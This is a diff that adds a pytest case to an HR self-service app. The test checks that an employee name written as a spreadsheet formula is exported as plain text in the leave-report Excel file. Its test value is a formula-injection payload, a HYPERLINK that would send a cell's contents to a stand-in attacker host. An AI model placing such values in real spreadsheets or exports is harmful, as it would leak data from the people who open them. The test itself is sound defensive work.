@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
@@ -285,6 +286,25 @@ def test_calendar_scope_and_report(company, now):
     assert "+00:00" not in footer and "17:00:00" in footer  # 09:00 UTC shown in the company's time zone, not raw UTC
     with pytest.raises(NotPermitted):
         leave_requests.report_rows(company, actor_for(company, "E1002"), 2026)
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_leave_report(company, now):
+    """Issue 14, item 4: "=HYPERLINK(…)" as a name must not become a live formula in HR's Excel."""
+    from openpyxl import load_workbook
+
+    from selfservice.persistence.models import Employee
+
+    person = company.exec(select(Employee).where(Employee.employee_no == "E1004")).one()
+    person.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    company.add(person)
+    company.commit()
+    file(company, "E1004", now=now)
+    data = leave_requests.report_xlsx(company, actor_for(company, "hr01"), 2026, "en", now)
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in raw  # no formula anywhere in the sheet
 
 
 def test_one_decision_covers_consecutive_steps_of_the_same_approver(company):
